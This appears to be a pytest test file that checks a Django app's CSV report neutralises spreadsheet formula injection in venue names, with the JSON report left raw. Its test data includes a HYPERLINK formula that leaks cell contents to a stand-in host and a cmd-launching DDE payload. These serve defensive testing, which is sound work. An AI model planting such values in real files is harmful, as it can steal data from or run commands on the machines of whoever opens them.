"""A venue name that a spreadsheet would run as a formula (=, +, -, @, tab, carriage return
first) reaches the report's CSV as text: a staff member cannot plant a formula in a download
that another member opens in Excel."""

import csv
import io

import pytest

from tests.conftest import client_for
from tests.factories import MembershipFactory, VenueFactory

pytestmark = pytest.mark.django_db

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "Bank Street Common Room",
]


def test_formula_like_venue_names_reach_the_csv_as_text():
    membership = MembershipFactory(role="staff")
    for name in NAMES:
        VenueFactory(organisation=membership.organisation, name=name)
    client = client_for(membership.person)

    response = client.get(
        f"/api/organisations/{membership.organisation.pk}/report/",
        {"from": "2026-10-01", "to": "2026-10-31", "format": "csv"},
    )

    assert response.status_code == 200
    names = [row["venue_name"] for row in csv.DictReader(io.StringIO(response.content.decode()))]
    assert sorted(names) == sorted(
        [
            '\'=HYPERLINK("http://evil.example/?"&A1,"Open")',
            "'+1+cmd|' /C calc'!A0",
            "'-2+3",
            "'@SUM(1+1)",
            "'\t=1+1",
            "'\r=1+1",
            "Bank Street Common Room",
        ]
    )
    # The JSON report gives the names as they are: only the spreadsheet format is guarded.
    json_names = {
        row["venue_name"]
        for row in client.get(
            f"/api/organisations/{membership.organisation.pk}/report/",
            {"from": "2026-10-01", "to": "2026-10-31"},
        ).json()["rows"]
    }
    assert json_names == set(NAMES)
